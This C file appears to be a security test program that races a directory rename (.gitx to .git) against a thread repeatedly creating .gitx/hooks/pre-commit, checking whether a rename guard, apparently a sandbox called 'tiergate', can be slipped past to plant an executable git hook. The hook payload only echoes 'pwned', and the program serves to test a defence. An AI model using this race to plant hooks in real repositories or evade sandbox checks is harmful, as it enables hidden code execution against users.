/* Attack: a directory rename decided on the tree it moves (decide_rename.c)
 * raced by a second thread that creates a file below the directory between
 * the decision's walk and the rename: `rename(.gitx, .git)` while the
 * thread keeps creating .gitx/hooks/pre-commit (by path, and through a
 * descriptor of .gitx/hooks taken once, which follows the directory to its
 * new name) and removing it. Natively the hook lands at .git/hooks/
 * pre-commit within a few tries; a walk that the thread's create could slip
 * past would plant it under tiergate too. Built -static: the kernel path.
 * Run in a directory with .gitx/hooks. Usage: static_rename_race TRIES.
 * Prints "planted a hook (try N)" or "refused: N tries". */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static atomic_int stop;
static atomic_ulong made;
static int hooks; /* .gitx/hooks, wherever it is now */

static void *creator(void *arg)
{
	(void)arg;
	for (unsigned long i = 0; !atomic_load(&stop); i++) {
		int fd = (i & 1) ? openat(hooks, "pre-commit",
					  O_CREAT | O_WRONLY | O_TRUNC, 0755)
				 : open(".gitx/hooks/pre-commit",
					O_CREAT | O_WRONLY | O_TRUNC, 0755);
		if (fd >= 0) {
			(void)!write(fd, "#!/bin/sh\necho pwned\n", 21);
			close(fd);
		}
		atomic_fetch_add(&made, 1);
		unlinkat(hooks, "pre-commit", 0);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	int tries = argc > 1 ? atoi(argv[1]) : 2000;
	hooks = open(".gitx/hooks", O_RDONLY | O_DIRECTORY);
	if (hooks < 0)
		return 2;
	pthread_t t;
	pthread_create(&t, NULL, creator, NULL);
	while (atomic_load(&made) < 10)
		sched_yield();
	int i;
	for (i = 0; i < tries; i++) {
		/* the thread runs between two tries */
		unsigned long m = atomic_load(&made);
		while (atomic_load(&made) == m)
			sched_yield();
		if (rename(".gitx", ".git") < 0)
			continue;
		struct stat st;
		if (stat(".git/hooks/pre-commit", &st) == 0) {
			atomic_store(&stop, 1);
			pthread_join(t, NULL);
			printf("planted a hook (try %d)\n", i);
			return 0;
		}
		if (rename(".git", ".gitx") < 0) {
			atomic_store(&stop, 1);
			pthread_join(t, NULL);
			printf("cannot move .git back (try %d)\n", i);
			return 3;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("refused: %d tries\n", i);
	return 1;
}
